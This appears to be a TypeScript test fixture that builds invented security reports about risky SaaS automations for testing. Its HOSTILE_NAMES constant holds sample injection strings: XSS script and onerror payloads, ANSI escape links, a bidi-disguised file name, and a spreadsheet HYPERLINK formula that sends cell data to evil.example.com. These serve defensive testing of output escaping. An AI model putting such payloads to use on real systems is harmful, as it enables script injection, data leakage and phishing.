/** An invented report for tests, with names as hostile as attackers choose them, and an arbitrary of whole reports. */

import fc from "fast-check";
import { mitreOf } from "#catalog/techniques.ts";
import { AutomationKind, Consent } from "#contract/automation.ts";
import { AttackType, Classification, SEVERITIES, type Severity } from "#contract/finding.ts";
import { Platform } from "#contract/platform.ts";
import type {
  AiIdentity,
  Report,
  ReportAutomation,
  ReportEvidence,
  ReportFinding,
  ReportSource,
} from "#contract/report.ts";

/** What strangers call their apps when they want to break a reader's terminal, page or spreadsheet. */
export const HOSTILE_NAMES = {
  ansi: "Sync\u001b[2J\u001b[31mHelper\u001b]8;;https://evil.example.com\u0007click\u001b]8;;\u0007",
  script: "<script>alert('owned')</script><img src=x onerror=alert(1)>",
  bidi: "invoice\u202efdp.exe\u202c",
  formula: '=HYPERLINK("https://evil.example.com?"&A1,"open")',
  long: `Quarterly ${"consolidated ".repeat(24)}exporter`,
  emoji: "👩‍💻 Daily stand-up bot 🚀",
  cjk: "会議の要約アシスタント・議事録自動作成ツール",
  markdown: "[Reset your password](https://evil.example.com) `x` *y*",
  quotes: `"><svg/onload=alert(1)>'--`,
  spaces: "  Payroll\n\tsync\r\n ",
} as const;

interface AutomationSketch {
  id: string;
  platform: Platform;
  kind: AutomationKind;
  name: string | null;
  vendor?: string;
  ai?: AiIdentity;
  score: number;
  level: Severity;
  reasons?: readonly [string, number, string][];
  owners?: readonly [string, number, string][];
  scopes?: readonly string[];
  consent?: Consent;
  principals?: readonly (string | null)[];
  events: number;
  classification: Classification;
  first?: string;
  last?: string;
}

function automation(sketch: AutomationSketch): ReportAutomation {
  const first = sketch.first ?? "2026-01-12T08:15:00.000Z";
  const principals = sketch.principals ?? (sketch.scopes === undefined ? [] : [null]);
  return {
    id: `auto_${sketch.id}`,
    platform: sketch.platform,
    kind: sketch.kind,
    nativeId: `${sketch.platform}-${sketch.id}`,
    name: sketch.name,
    vendor: sketch.vendor ?? null,
    ai: sketch.ai ?? null,
    owners: (sketch.owners ?? []).map(([principal, confidence, evidence]) => ({
      principal,
      confidence,
      evidence,
    })),
    grants: principals.map((principal) => ({
      principal,
      scopes: [...(sketch.scopes ?? [])],
      consent: sketch.consent ?? "user",
      grantedBy: principal,
      at: first,
    })),
    firstSeenAt: first,
    lastSeenAt: sketch.last ?? "2026-03-04T10:20:00.000Z",
    eventCount: sketch.events,
    risk: {
      score: sketch.score,
      level: sketch.level,
      reasons: (sketch.reasons ?? []).map(([code, points, text]) => ({ code, points, text })),
    },
    classification: sketch.classification,
  };
}

function sampleAutomations(): ReportAutomation[] {
  return [
    automation({
      id: "01",
      platform: "microsoft",
      kind: "oauth_app",
      name: "Calendar Sync Pro",
      vendor: "Northwind Tools",
      score: 94,
      level: "critical",
      reasons: [
        ["scope_mail", 35, "Reads every mailbox of the tenant (Mail.Read for the whole tenant)"],
        ["unverified", 20, "Its publisher is not verified and first appeared 3 days ago"],
        ["finding", 30, "Read 12,400 messages in 38 minutes, 310 times its own normal"],
        ["owner", 9, "No one in the organization answers for it"],
      ],
      scopes: ["Mail.Read", "offline_access", "User.Read", "Files.Read.All"],
      consent: "tenant",
      principals: [null],
      events: 12_873,
      classification: "malicious",
      first: "2026-03-01T22:41:00.000Z",
    }),
    automation({
      id: "02",
      platform: "google",
      kind: "service_account",
      name: "backup-runner@acme-prod.iam.example.com",
      vendor: "Own",
      score: 88,
      level: "critical",
      reasons: [
        ["delegation", 40, "May act as any person in the domain (domain-wide delegation)"],
        ["key_age", 12, "Its key is 611 days old"],
        ["finding", 26, "Impersonated 41 people on one evening; before that never more than 2"],
      ],
      owners: [["ops@example.com", 0.85, "created the key on 2024-07-01"]],
      scopes: ["https://www.googleapis.com/auth/drive", "https://mail.google.com/"],
      consent: "admin",
      principals: [null],
      events: 4_410,
      classification: "suspicious",
    }),
    automation({
      id: "03",
      platform: "slack",
      kind: "oauth_app",
      name: HOSTILE_NAMES.ansi,
      vendor: "Unknown",
      score: 81,
      level: "high",
      reasons: [["scope_history", 30, "Reads the history of all public channels"]],
      owners: [["jo.meyer@example.com", 0.7, "installed it on 2026-02-11"]],
      scopes: ["channels:history", "groups:history", "files:read", "users:read.email"],
      principals: ["jo.meyer@example.com"],
      events: 2_204,
      classification: "suspicious",
    }),
    automation({
      id: "04",
      platform: "slack",
      kind: "ai_agent",
      name: HOSTILE_NAMES.cjk,
      vendor: "Kaigi KK",
      ai: {
        provider: "OpenAI",
        category: "meeting_assistant",
        method: "catalogue_domain",
        confidence: 0.9,
      },
      score: 67,
      level: "high",
      reasons: [["ai_reach", 25, "An AI app that reads private channels"]],
      owners: [["sato@example.com", 0.95, "installed it and approved its scopes"]],
      scopes: ["channels:history", "im:history", "chat:write"],
      principals: ["sato@example.com", "tanaka@example.com"],
      events: 918,
      classification: "unknown",
    }),
    automation({
      id: "05",
      platform: "google",
      kind: "oauth_app",
      name: HOSTILE_NAMES.script,
      score: 62,
      level: "high",
      scopes: ["https://www.googleapis.com/auth/gmail.readonly"],
      principals: ["lee@example.com", "kim@example.com", "ana@example.com"],
      events: 311,
      classification: "suspicious",
    }),
    automation({
      id: "06",
      platform: "microsoft",
      kind: "oauth_app",
      name: HOSTILE_NAMES.bidi,
      score: 58,
      level: "medium",
      owners: [["<b>mallory</b>@example.com", 0.4, "signed in through it once"]],
      scopes: ["Files.ReadWrite.All"],
      principals: ["mallory@example.com"],
      events: 96,
      classification: "suspicious",
    }),
    automation({
      id: "07",
      platform: "anthropic",
      kind: "mcp_connector",
      name: "Claude · Drive connector",
      vendor: "Anthropic",
      ai: { provider: "Anthropic", category: "assistant", method: "catalogue_id", confidence: 1 },
      score: 51,
      level: "medium",
      owners: [["ana@example.com", 0.9, "connected it on 2026-02-20"]],
      scopes: ["drive.readonly"],
      principals: ["ana@example.com"],
      events: 1_530,
      classification: "legitimate",
    }),
    automation({
      id: "08",
      platform: "github",
      kind: "bot",
      name: "renovation-bot",
      vendor: "Own",
      score: 44,
      level: "medium",
      owners: [["platform-team@example.com", 0.8, "owns the app registration"]],
      scopes: ["repo", "workflow"],
      consent: "admin",
      events: 8_120,
      classification: "legitimate",
    }),
    automation({
      id: "09",
      platform: "slack",
      kind: "workflow",
      name: HOSTILE_NAMES.emoji,
      score: 23,
      level: "low",
      owners: [["mia@example.com", 1, "made it"]],
      scopes: ["chat:write"],
      principals: ["mia@example.com"],
      events: 640,
      classification: "legitimate",
    }),
    automation({
      id: "10",
      platform: "google",
      kind: "script",
      name: HOSTILE_NAMES.formula,
      score: 22,
      level: "low",
      owners: [["+49 171 0000000", 0.3, "phone number in the script's name"]],
      scopes: ["https://www.googleapis.com/auth/spreadsheets"],
      principals: ["@sum(A1:A9)"],
      events: 88,
      classification: "unknown",
    }),
    automation({
      id: "11",
      platform: "okta",
      kind: "api_key",
      name: HOSTILE_NAMES.long,
      score: 19,
      level: "low",
      events: 12,
      classification: "unknown",
      last: "2025-11-03T00:00:00.000Z",
    }),
    automation({
      id: "12",
      platform: "openai",
      kind: "ai_agent",
      name: null,
      vendor: "OpenAI",
      ai: { provider: "OpenAI", category: "agent", method: "heuristic_name", confidence: 0.6 },
      score: 18,
      level: "low",
      scopes: ["model.request"],
      events: 45,
      classification: "unknown",
    }),
    automation({
      id: "13",
      platform: "salesforce",
      kind: "oauth_app",
      name: HOSTILE_NAMES.markdown,
      vendor: HOSTILE_NAMES.quotes,
      score: 15,
      level: "low",
      scopes: ["api", "refresh_token"],
      principals: ["sales@example.com"],
      events: 230,
      classification: "legitimate",
    }),
    automation({
      id: "14",
      platform: "slack",
      kind: "webhook",
      name: HOSTILE_NAMES.spaces,
      score: 6,
      level: "info",
      events: 3,
      classification: "unknown",
    }),
  ];
}

interface FindingSketch {
  id: string;
  detector: string;
  techniques: readonly string[];
  title: string;
  attackType: AttackType;
  severity: Severity;
  confidence: number;
  automation: string | null;
  principal?: string;
  platform: Platform;
  from: string | null;
  to: string | null;
  explanation: string;
  evidence: readonly [string, number, string, string][];
}

function finding(sketch: FindingSketch): ReportFinding {
  const evidence: ReportEvidence[] = sketch.evidence.map(([path, line, action, summary], i) => ({
    eventId: `evt-${sketch.id}-${i}`,
    path,
    line,
    at: sketch.from,
    action,
    summary,
  }));
  return {
    id: sketch.id,
    detector: sketch.detector,
    techniques: [...sketch.techniques],
    title: sketch.title,
    attackType: sketch.attackType,
    severity: sketch.severity,
    confidence: sketch.confidence,
    automationId: sketch.automation === null ? null : `auto_${sketch.automation}`,
    principal: sketch.principal ?? null,
    platform: sketch.platform,
    window: { from: sketch.from, to: sketch.to },
    explanation: sketch.explanation,
    mitre: mitreOf(sketch.techniques),
    evidence,
  };
}

function sampleFindings(): ReportFinding[] {
  return [
    finding({
      id: "3f9c21d07a4be6c85512",
      detector: "velocity",
      techniques: ["T30", "T24"],
      title: "Mailboxes read at machine speed by a new app",
      attackType: "data_exfiltration",
      severity: "critical",
      confidence: 0.96,
      automation: "01",
      platform: "microsoft",
      from: "2026-03-04T02:04:00.000Z",
      to: "2026-03-04T02:42:00.000Z",
      explanation:
        "Normal for this app is 40 messages an hour, read from one address in Germany. This is 12,400 messages in 38 minutes from 18 mailboxes, from an address that no automation here has used before (192.0.2.77), between two and three in the morning.",
      evidence: [
        [
          "exports/o365-exchange.ndjson.gz",
          18_221,
          "MailItemsAccessed",
          "512 messages of cfo@example.com",
        ],
        [
          "exports/o365-exchange.ndjson.gz",
          18_222,
          "MailItemsAccessed",
          "498 messages of cfo@example.com",
        ],
        [
          "exports/o365-exchange.ndjson.gz",
          18_240,
          "MailItemsAccessed",
          "477 messages of legal@example.com",
        ],
      ],
    }),
    finding({
      id: "8d10b7e2c9f34a6610aa",
      detector: "impersonation_burst",
      techniques: ["T31"],
      title: "Service account acted as 41 people in one evening",
      attackType: "credential_theft",
      severity: "critical",
      confidence: 0.88,
      automation: "02",
      platform: "google",
      from: "2026-03-02T19:00:00.000Z",
      to: "2026-03-02T23:30:00.000Z",
      explanation:
        "In 90 days this service account acted as at most 2 people a day. On this evening it acted as 41, among them 3 administrators, and opened the Drive of each.",
      evidence: [["google/token.json", 411, "authorize", "as admin@example.com"]],
    }),
    finding({
      id: "8d77aa01f0c2ddee9001",
      detector: "consent_burst",
      techniques: ["T04", "T01"],
      title: "Three people approved the same unverified app within ten minutes",
      attackType: "credential_theft",
      severity: "high",
      confidence: 0.81,
      automation: "05",
      platform: "google",
      from: "2026-02-27T09:02:00.000Z",
      to: "2026-02-27T09:11:00.000Z",
      explanation: `The app “${HOSTILE_NAMES.script}” was unknown here until 09:02. By 09:11 three people in one department had let it read their mail, which is how a phishing campaign looks.`,
      evidence: [
        ["google/token.json", 88, "authorize", `lee@example.com approved ${HOSTILE_NAMES.script}`],
        ["google/token.json", 91, "authorize", "kim@example.com approved it"],
      ],
    }),
    finding({
      id: "b2204f1100c8de7731f0",
      detector: "hidden_name",
      techniques: ["T08"],
      title: `App name reads backwards: ${HOSTILE_NAMES.bidi}`,
      attackType: "credential_theft",
      severity: "high",
      confidence: 0.74,
      automation: "06",
      platform: "microsoft",
      from: "2026-02-25T15:30:00.000Z",
      to: "2026-02-25T15:30:00.000Z",
      explanation: "The name holds a right-to-left override, which makes it look like a PDF file.",
      evidence: [
        [
          `dir with spaces/ümläut/${HOSTILE_NAMES.bidi}.json`,
          7,
          "Consent to application.",
          HOSTILE_NAMES.ansi,
        ],
      ],
    }),
    finding({
      id: "c4410099aa31be558812",
      detector: "velocity",
      techniques: ["T30"],
      title: "Slack history read far above this app's normal",
      attackType: "data_exfiltration",
      severity: "high",
      confidence: 0.69,
      automation: "03",
      platform: "slack",
      from: "2026-03-01T11:00:00.000Z",
      to: "2026-03-01T12:00:00.000Z",
      explanation: `${HOSTILE_NAMES.ansi} opened 1,904 files in an hour; its busiest hour before was 61.`,
      evidence: [["slack/audit-2026-03.ndjson", 90_412, "file_downloaded", "F0123 by app"]],
    }),
    finding({
      id: "d00d51fa3344ee901122",
      detector: "ai_reach",
      techniques: ["T61"],
      title: "AI meeting assistant reads direct messages",
      attackType: "ai_abuse",
      severity: "medium",
      confidence: 0.6,
      automation: "04",
      platform: "slack",
      from: "2026-02-20T08:00:00.000Z",
      to: "2026-03-04T08:00:00.000Z",
      explanation: `${HOSTILE_NAMES.cjk} は im:history を持っています。Meeting assistants of other vendors here hold calendar scopes only.`,
      evidence: [["slack/audit-2026-03.ndjson", 17, "app_scopes_expanded", "im:history added"]],
    }),
    finding({
      id: "e1e1e10404bb77aa3355",
      detector: "rate_shaping",
      techniques: ["T37"],
      title: "Reads spread evenly to stay below a limit",
      attackType: "rate_limit_evasion",
      severity: "medium",
      confidence: 0.55,
      automation: "08",
      platform: "github",
      from: "2026-02-22T00:00:00.000Z",
      to: "2026-02-24T00:00:00.000Z",
      explanation:
        "4,980 calls an hour for 41 hours, at gaps of 0.72 s ± 0.01 s; the limit is 5,000.",
      evidence: [
        ["github/audit.json.gz", 2, "git.clone", "private repositories, one after another"],
      ],
    }),
    finding({
      id: "f77f0012cc9933ab4401",
      detector: "forwarding_rule",
      techniques: ["T33"],
      title: "Person forwards all mail to an outside address",
      attackType: "backdoor",
      severity: "low",
      confidence: 0.5,
      automation: null,
      principal: "pat@example.com",
      platform: "microsoft",
      from: "2026-02-19T17:20:00.000Z",
      to: "2026-02-19T17:20:00.000Z",
      explanation:
        "A rule named “.” sends every message to pat.private@example.net and deletes the copy.",
      evidence: [
        ["C:\\exports\\o365 mail.ndjson", 5, "New-InboxRule", "ForwardTo pat.private@example.net"],
      ],
    }),
    finding({
      id: "ff0190ab77cd12340987",
      detector: "stale_credential",
      techniques: [],
      title: "API key unused for 121 days still works",
      attackType: "backdoor",
      severity: "info",
      confidence: 0.35,
      automation: "11",
      platform: "okta",
      from: null,
      to: null,
      explanation: "The last use on record is 3 November 2025; keys like it are used daily.",
      evidence: [],
    }),
  ];
}

function source(
  path: string,
  service: string | null,
  platform: Platform | null,
  counts: readonly [number, number, number, number, number?],
  period: readonly [string | null, string | null] = [
    "2026-02-01T00:00:00.000Z",
    "2026-03-04T10:19:58.000Z",
  ],
): ReportSource {
  const [records, events, duplicates, quarantined, inventory = 0] = counts;
  const container = path.endsWith(".gz")
    ? "ndjson.gz"
    : path.endsWith(".ndjson")
      ? "ndjson"
      : "page";
  const [from, to] = period;
  return {
    path,
    container,
    platform,
    service,
    records,
    events,
    duplicates,
    inventory,
    outside: 0,
    quarantined,
    from,
    to,
  };
}

/** The rich invented report: every platform and severity, and every hostile name. Valid by the contract. */
export function sampleReport(): Report {
  return summed({
    generatedAt: "2026-03-04T10:20:31.512Z",
    durationMs: 8_412,
    duplicates: 1_190,
    sources: [
      source(
        "exports/o365-exchange.ndjson.gz",
        "o365:Exchange",
        "microsoft",
        [20_114, 19_870, 244, 0],
      ),
      source("slack/audit-2026-03.ndjson", "slack:audit", "slack", [98_220, 97_300, 901, 12]),
      source("google/token.json", "google:token", "google", [4_120, 4_075, 45, 0]),
      source("github/audit.json.gz", "github:audit", "github", [8_200, 8_200, 0, 0]),
      source(
        "archive.zip!deep/nested/folder/of/exports/entra-service-principals.json",
        "entra:servicePrincipals",
        "microsoft",
        [310, 0, 0, 0, 310],
        [null, null],
      ),
      source("notes/holiday-plan.csv", null, null, [6, 0, 0, 6], [null, null]),
    ],
    automations: sampleAutomations(),
    findings: sampleFindings(),
    quarantine: [
      {
        path: "slack/audit-2026-03.ndjson",
        line: 4_411,
        reason: "not JSON: unexpected end of input",
      },
      {
        path: "slack/audit-2026-03.ndjson",
        line: 60_120,
        reason: `no log is recognised by its fields: ${HOSTILE_NAMES.ansi}`,
      },
      { path: "notes/holiday-plan.csv", line: 1, reason: "no log is recognised by its columns" },
    ],
  });
}

/** A report of files in which nothing was found, or (with `records: 0`) nothing stood. */
export function emptyReport(records = 0): Report {
  return summed({
    generatedAt: "2026-03-04T10:20:31.512Z",
    durationMs: 12,
    duplicates: 0,
    sources:
      records === 0
        ? []
        : [source("slack/audit-2026-03.ndjson", "slack:audit", "slack", [records, records, 0, 0])],
    automations: [],
    findings: [],
    quarantine: [],
  });
}

interface Parts {
  generatedAt: string;
  durationMs: number;
  duplicates: number;
  sources: ReportSource[];
  automations: ReportAutomation[];
  findings: ReportFinding[];
  quarantine: Report["quarantine"];
}

/** A report of these parts with a summary that agrees with them. */
function summed(parts: Parts): Report {
  const { generatedAt, durationMs, duplicates, sources, automations, findings, quarantine } = parts;
  const total = (count: (one: ReportSource) => number) =>
    sources.reduce((sum, one) => sum + count(one), 0);
  return {
    schemaVersion: 1,
    generatedAt,
    summary: {
      files: sources.length,
      records: total(({ records }) => records),
      events: total(({ events }) => events),
      duplicates,
      inventory: total(({ inventory }) => inventory),
      outside: total(({ outside }) => outside),
      quarantined: total(({ quarantined }) => quarantined),
      automations: automations.length,
      findings: findings.length,
      bySeverity: {
        info: countOf(findings, "info"),
        low: countOf(findings, "low"),
        medium: countOf(findings, "medium"),
        high: countOf(findings, "high"),
        critical: countOf(findings, "critical"),
      },
      byPlatform: tally(automations.map(({ platform }) => platform)),
      byAttackType: tally(findings.map(({ attackType }) => attackType)),
      durationMs,
    },
    sources,
    automations,
    findings,
    quarantine,
  };
}

function countOf(findings: readonly ReportFinding[], severity: Severity): number {
  return findings.filter((one) => one.severity === severity).length;
}

function tally<Key extends string>(keys: readonly Key[]): Partial<Record<Key, number>> {
  const counts: Partial<Record<Key, number>> = {};
  for (const key of keys) counts[key] = (counts[key] ?? 0) + 1;
  return counts;
}

/** Texts as strangers write them: any code unit, and the hostile names. */
const anyText = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.integer({ min: 0, max: 0xffff }))
      .map((units) => String.fromCharCode(...units.slice(0, 30))),
  },
  { weight: 2, arbitrary: fc.constantFrom(...Object.values(HOSTILE_NAMES)) },
);
const anyInstant = fc
  .date({
    min: new Date("2000-01-01T00:00:00.000Z"),
    max: new Date("2099-12-31T00:00:00.000Z"),
    noInvalidDate: true,
  })
  .map((date) => date.toISOString());
const maybeInstant = fc.option(anyInstant);
const anyCount = fc.nat({ max: 2_000_000 });
const anyShare = fc.double({ min: 0, max: 1, noNaN: true });
const anySeverity = fc.constantFrom(...SEVERITIES);
const anyPlatform = fc.constantFrom(...Platform.options);
const shortIds = fc.array(
  fc.constantFrom("T1528", "T1550.001", "AML.T0053", "NHI3", "constructor"),
  {
    maxLength: 3,
  },
);

const anyAutomation: fc.Arbitrary<ReportAutomation> = fc.record({
  id: fc.oneof(fc.constantFrom("a1", "a2", "__proto__"), anyText),
  platform: anyPlatform,
  kind: fc.constantFrom(...AutomationKind.options),
  nativeId: anyText,
  name: fc.option(anyText),
  vendor: fc.option(anyText),
  ai: fc.option(
    fc.record({ provider: anyText, category: anyText, method: anyText, confidence: anyShare }),
  ),
  owners: fc.array(fc.record({ principal: anyText, confidence: anyShare, evidence: anyText }), {
    maxLength: 3,
  }),
  grants: fc.array(
    fc.record({
      principal: fc.option(anyText),
      scopes: fc.array(anyText, { maxLength: 5 }),
      consent: fc.constantFrom(...Consent.options),
      grantedBy: fc.option(anyText),
      at: maybeInstant,
    }),
    { maxLength: 3 },
  ),
  firstSeenAt: maybeInstant,
  lastSeenAt: maybeInstant,
  eventCount: anyCount,
  risk: fc.record({
    score: fc.double({ min: 0, max: 100, noNaN: true }),
    level: anySeverity,
    reasons: fc.array(
      fc.record({
        code: anyText,
        points: fc.double({ min: -100, max: 100, noNaN: true }),
        text: anyText,
      }),
      { maxLength: 3 },
    ),
  }),
  classification: fc.constantFrom(...Classification.options),
});

const anyFinding: fc.Arbitrary<ReportFinding> = fc.record({
  id: anyText,
  detector: anyText,
  techniques: fc.array(fc.constantFrom("T01", "T31", "T76", "T99"), { maxLength: 3 }),
  title: anyText,
  attackType: fc.constantFrom(...AttackType.options),
  severity: anySeverity,
  confidence: anyShare,
  automationId: fc.option(fc.constantFrom("a1", "a2", "__proto__", "gone")),
  principal: fc.option(anyText),
  platform: anyPlatform,
  window: fc.record({ from: maybeInstant, to: maybeInstant }),
  explanation: fc.oneof(anyText, fc.lorem({ maxCount: 60 })),
  mitre: fc.record({ attack: shortIds, atlas: shortIds, owasp: shortIds }),
  evidence: fc.array(
    fc.record({
      eventId: anyText,
      path: anyText,
      line: fc.integer({ min: -1, max: 1_000_000 }),
      at: maybeInstant,
      action: anyText,
      summary: anyText,
    }),
    { maxLength: 4 },
  ),
});

const anySource: fc.Arbitrary<ReportSource> = fc.record({
  path: anyText,
  container: anyText,
  platform: fc.option(anyPlatform),
  service: fc.option(anyText),
  records: anyCount,
  events: anyCount,
  duplicates: anyCount,
  inventory: anyCount,
  outside: anyCount,
  quarantined: anyCount,
  from: maybeInstant,
  to: maybeInstant,
});

/** Any report that the contract allows, with a summary that agrees with its lists. */
export const anyReport: fc.Arbitrary<Report> = fc
  .record({
    generatedAt: anyInstant,
    durationMs: anyCount,
    duplicates: anyCount,
    sources: fc.array(anySource, { maxLength: 4 }),
    automations: fc.array(anyAutomation, { maxLength: 6 }),
    findings: fc.array(anyFinding, { maxLength: 6 }),
    quarantine: fc.array(fc.record({ path: anyText, line: anyCount, reason: anyText }), {
      maxLength: 4,
    }),
  })
  .map(summed);
